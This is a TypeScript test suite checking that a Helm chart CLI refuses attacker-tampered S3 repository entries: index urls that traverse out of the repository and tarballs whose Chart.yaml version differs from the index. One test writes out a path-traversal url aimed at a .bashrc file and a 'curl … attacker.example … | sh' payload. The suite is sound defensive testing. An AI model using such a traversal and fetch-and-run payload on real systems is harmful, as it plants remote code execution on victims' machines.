/**
 * A dev bucket written by an attacker: index entries whose url leaves the
 * repository, and tarballs whose own Chart.yaml is not what the index lists.
 * The real CLI, the local S3 server, the Kubernetes simulator and real helm;
 * each command must refuse with exit 1, naming the entry, and leave the file
 * system, the buckets and the cluster as they were.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { copyExampleApp, helmBinaries, runCli, type CliRun } from '../support/project.js';
import { isolateRepositories, startTestS3, testRepository, type TestS3 } from '../support/s3.js';
import { S3ChartRepository, s3Settings } from '../../src/adapters/s3-chart-repository.js';
import { parseRepository } from '../../src/core/environment-file.js';
import { parseChartIndex, serializeChartIndex, withEntry, type IndexEntry } from '../../src/core/chart-index.js';
import { readTar, writeTar } from '../../src/core/tar-archive.js';
import { startSimulator, type Simulator } from '../../src/sandbox/simulator.js';
import { kubeconfigYaml } from '../../src/sandbox/kubeconfig.js';

let sim: Simulator;
let s3: TestS3;
let app: ReturnType<typeof copyExampleApp>;
let root: string;
let work: string;
/** TMPDIR of every chartctl run: the candidate temp dirs are made in here, so a `../..` from one lands in `work/tmp`. */
let tmp: string;
let env: Record<string, string>;

const sha256 = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');
const cli = (args: string[]): Promise<CliRun> => runCli(['--cwd', app.dir, ...args], { env, timeoutMs: 90_000 });
const errorOf = (r: CliRun) => (JSON.parse(r.stdout) as { error: { code: string; message: string } }).error;

before(async () => {
  sim = await startSimulator({ readinessDelayMs: 0 });
  s3 = await startTestS3();
  app = copyExampleApp();
  root = isolateRepositories(app.dir, s3);
  work = mkdtempSync(join(tmpdir(), 'chartctl-trust-'));
  tmp = join(work, 'tmp', 'runs');
  mkdirSync(tmp, { recursive: true });
  mkdirSync(join(work, 'home'));
  writeFileSync(join(work, 'kubeconfig'), kubeconfigYaml(sim.url, { aliases: ['dev', 'staging', 'prod'] }));
  env = { ...s3.env, KUBECONFIG: join(work, 'kubeconfig'), HOME: join(work, 'home'), TMPDIR: tmp, CHARTCTL_HELM: helmBinaries.helm4 };
  const published = await cli(['publish', 'dev', '--version', '1.0.0']);
  assert.equal(published.exitCode, 0, published.stderr);
});
after(async () => {
  await sim?.close();
  await s3?.close();
  app?.remove();
  if (work) rmSync(work, { recursive: true, force: true });
});

/** Every key in the bucket with its ETag: what "nothing was written" is checked against. */
async function bucketState(): Promise<string[]> {
  const config = parseRepository({ url: `s3://${s3.bucket}` });
  const keys = s3.env.AWS_ACCESS_KEY_ID ? { accessKeyId: s3.env.AWS_ACCESS_KEY_ID, secretAccessKey: s3.env.AWS_SECRET_ACCESS_KEY! } : undefined;
  const bucket = new S3ChartRepository(config, { ...s3Settings(config, { ...process.env, ...s3.env }), credentials: keys }, 'bucket');
  return (await bucket.list()).map((o) => `${o.name} ${o.etag}`).sort();
}

/** Every file under `dir` with its sha256. */
function files(dir: string): string[] {
  const out: string[] = [];
  const walk = (d: string) => {
    for (const name of readdirSync(d)) {
      const p = join(d, name);
      if (statSync(p).isDirectory()) walk(p);
      else out.push(`${relative(dir, p)} ${sha256(readFileSync(p))}`);
    }
  };
  walk(dir);
  return out.sort();
}

/** Writes an entry into dev's index.yaml directly, as anyone with write access to the bucket can. */
async function listInDev(entry: IndexEntry): Promise<void> {
  const dev = testRepository(s3, root, 'dev');
  const got = await dev.get('index.yaml');
  assert.equal(got.kind, 'found');
  const index = parseChartIndex(new TextDecoder().decode(got.kind === 'found' ? got.body : new Uint8Array()), 'dev index');
  await dev.put('index.yaml', new TextEncoder().encode(serializeChartIndex(withEntry(index, entry, new Date()))));
}

/** dev's published 1.0.0 tarball with its Chart.yaml version changed to `version`. */
async function tarballClaiming(version: string): Promise<Uint8Array> {
  const got = await testRepository(s3, root, 'dev').get('shop-1.0.0.tgz');
  assert.equal(got.kind, 'found');
  const members = readTar(gunzipSync(got.kind === 'found' ? got.body : new Uint8Array()));
  const edited = members.map((m) =>
    m.path === 'shop/Chart.yaml' ? { ...m, data: new TextEncoder().encode(new TextDecoder().decode(m.data).replace(/^version: .*$/m, `version: ${version}`)) } : m,
  );
  assert.notDeepEqual(edited, members, 'the Chart.yaml version was replaced');
  return new Uint8Array(gzipSync(writeTar(edited)));
}

function entry(version: string, url: string, body: Uint8Array): IndexEntry {
  return { apiVersion: 'v2', name: 'shop', version, created: new Date().toISOString(), digest: sha256(body), urls: [url] };
}

test('an index url that climbs out of the repository writes nothing: diff and promote refuse it, naming the entry; repo verify reports it', async () => {
  // The file a traversing url aims at: two levels above chartctl's candidate temp dir (TMPDIR/chartctl-candidate-XXXX).
  const victim = join(work, 'tmp', 'home', '.bashrc');
  mkdirSync(join(work, 'tmp', 'home'));
  writeFileSync(victim, 'export PS1="original"\n', { mode: 0o644 });
  const url = '../../home/.bashrc';
  const payload = new TextEncoder().encode('curl -s https://attacker.example/x | sh\n');
  // Real S3 stores such a key as an ordinary key; the local test server refuses it (it keeps keys as files).
  // Either way the refusal below must come from resolving the url, before any request for it.
  if (!s3.local) await testRepository(s3, root, 'dev').put(url, payload);
  await listInDev(entry('9.9.7', url, payload));
  const filesBefore = files(work);
  const bucketBefore = await bucketState();

  const diff = await cli(['diff', 'dev', '--version', '9.9.7', '--output', 'json']);
  assert.equal(diff.exitCode, 1, diff.stderr);
  assert.equal(readFileSync(victim, 'utf8'), 'export PS1="original"\n', 'the file the url aims at is untouched');
  assert.deepEqual(files(work), filesBefore, 'nothing was written anywhere under the work dir (TMPDIR included)');
  assert.equal(errorOf(diff).code, 'INDEX_URL_OUTSIDE_REPOSITORY');
  assert.match(errorOf(diff).message, /^Refusing shop 9\.9\.7: the dev index lists its url as "\.\.\/\.\.\/home\/\.bashrc", which is not an object of s3:\/\/acme-charts\/t-[^/]+\/dev /);

  const promote = await cli(['promote', 'dev', 'staging', '--version', '9.9.7', '--output', 'json']);
  assert.equal(promote.exitCode, 1, promote.stderr);
  assert.equal(errorOf(promote).code, 'INDEX_URL_OUTSIDE_REPOSITORY');
  assert.match(errorOf(promote).message, /shop 9\.9\.7 as "\.\.\/\.\.\/home\/\.bashrc"/);
  assert.deepEqual(await bucketState(), bucketBefore, 'no key was written in staging or anywhere else in the bucket');

  const verify = await cli(['repo', 'verify', 'dev', '--output', 'json']);
  assert.equal(verify.exitCode, 1, verify.stderr);
  const problems = (JSON.parse(verify.stdout) as { problems: { kind: string; version?: string; url?: string }[] }).problems;
  assert.ok(problems.some((p) => p.kind === 'urlOutsideRepository' && p.version === '9.9.7' && p.url === url), JSON.stringify(problems));
  const text = await cli(['repo', 'verify', 'dev']);
  assert.equal(text.exitCode, 1);
  assert.match(text.stdout, /url +shop 9\.9\.7: its url "\.\.\/\.\.\/home\/\.bashrc" is not an object of this repository \(it resolves to key "home\/\.bashrc", outside the prefix "t-[^/]+\/dev\/"\); not read/);
  assert.deepEqual(files(work), filesBefore);
});

test("a tarball whose own Chart.yaml says another version than its entry never reaches helm or the cluster: diff and deploy refuse it; repo verify reports it", async () => {
  const body = await tarballClaiming('6.6.6');
  await testRepository(s3, root, 'dev').put('shop-9.9.9.tgz', body);
  await listInDev(entry('9.9.9', 'shop-9.9.9.tgz', body));

  const diff = await cli(['diff', 'dev', '--version', '9.9.9', '--output', 'json']);
  assert.equal(diff.exitCode, 1, diff.stderr || diff.stdout);
  assert.equal(errorOf(diff).code, 'CHART_IDENTITY_MISMATCH');
  assert.match(errorOf(diff).message, /lists s3:\/\/acme-charts\/t-[^/]+\/dev\/shop-9\.9\.9\.tgz as shop 9\.9\.9, but the tarball's own Chart\.yaml says "shop" version "6\.6\.6"/);

  // deploy (and watch, which deploys) resolve the candidate through the same code as diff; checked here against the cluster.
  const deploy = await cli(['deploy', 'dev', '--version', '9.9.9', '--yes', '--output', 'json']);
  assert.equal(deploy.exitCode, 1, deploy.stderr || deploy.stdout);
  assert.equal(errorOf(deploy).code, 'CHART_IDENTITY_MISMATCH');
  assert.equal(sim.getObject('Deployment', 'shop-dev', 'shop-api'), undefined, 'nothing was installed');
  const history = await cli(['history', 'dev', '--output', 'json']);
  assert.equal(history.exitCode, 3, 'the release was never created');
  assert.equal(errorOf(history).code, 'RELEASE_NOT_FOUND');

  const verify = await cli(['repo', 'verify', 'dev', '--output', 'json']);
  assert.equal(verify.exitCode, 1);
  const problems = (JSON.parse(verify.stdout) as { problems: { kind: string; version?: string; actual?: { version: string } }[] }).problems;
  assert.ok(problems.some((p) => p.kind === 'identityMismatch' && p.version === '9.9.9' && p.actual?.version === '6.6.6'), JSON.stringify(problems));
  const text = await cli(['repo', 'verify', 'dev']);
  assert.equal(text.exitCode, 1);
  assert.match(text.stdout, /identity shop 9\.9\.9: t-[^/]+\/dev\/shop-9\.9\.9\.tgz's own Chart\.yaml says "shop" version "6\.6\.6"/);
});

test('a prerelease tarball listed as a release is refused by promote into an environment without prereleases, and nothing is copied', async () => {
  const body = await tarballClaiming('5.2.0-rc.1');
  await testRepository(s3, root, 'dev').put('shop-9.9.8.tgz', body);
  await listInDev(entry('9.9.8', 'shop-9.9.8.tgz', body));
  const bucketBefore = await bucketState();

  const promote = await cli(['promote', 'dev', 'staging', '--version', '9.9.8', '--output', 'json']);
  assert.equal(promote.exitCode, 1, promote.stderr || promote.stdout);
  assert.equal(errorOf(promote).code, 'CHART_IDENTITY_MISMATCH');
  assert.match(errorOf(promote).message, /as shop 9\.9\.8, but the tarball's own Chart\.yaml says "shop" version "5\.2\.0-rc\.1"/);
  assert.deepEqual(await bucketState(), bucketBefore, 'nothing was written to staging');
  const dryRun = await cli(['promote', 'dev', 'staging', '--version', '9.9.8', '--dry-run', '--output', 'json']);
  assert.equal(dryRun.exitCode, 1, 'a dry run does not promise a promotion that would be refused');
});

test('urls helm resolves inside the repository still work: percent-encoded, host-absolute and s3:// absolute; promote lists its own object', async () => {
  const dev = testRepository(s3, root, 'dev');
  const cases = [
    { version: '1.0.1', key: 'enc+-1.0.1.tgz', url: 'enc%2B-1.0.1.tgz' },
    { version: '1.0.2', key: 'shop-1.0.2.tgz', url: `/${root}/dev/shop-1.0.2.tgz` },
    { version: '1.0.3', key: 'shop-1.0.3.tgz', url: `s3://${s3.bucket}/${root}/dev/shop-1.0.3.tgz` },
  ];
  for (const c of cases) {
    const body = await tarballClaiming(c.version);
    await dev.put(c.key, body);
    await listInDev(entry(c.version, c.url, body));
    const diff = await cli(['diff', 'dev', '--version', c.version, '--output', 'json']);
    assert.equal(diff.exitCode, 0, `${c.url}: ${diff.stderr}`);
    assert.equal((JSON.parse(diff.stdout) as { candidate: { version: string } }).candidate.version, c.version);
  }
  const promote = await cli(['promote', 'dev', 'staging', '--version', '1.0.3', '--output', 'json']);
  assert.equal(promote.exitCode, 0, promote.stderr);
  assert.equal((JSON.parse(promote.stdout) as { key: string }).key, `${root}/staging/shop-1.0.3.tgz`);
  const staging = await testRepository(s3, root, 'staging').get('index.yaml');
  const listed = parseChartIndex(new TextDecoder().decode(staging.kind === 'found' ? staging.body : new Uint8Array()), 'staging index').entries.shop!.find((e) => e.version === '1.0.3');
  assert.deepEqual(listed?.urls, ['shop-1.0.3.tgz'], 'staging lists its own object, not the dev url');
});
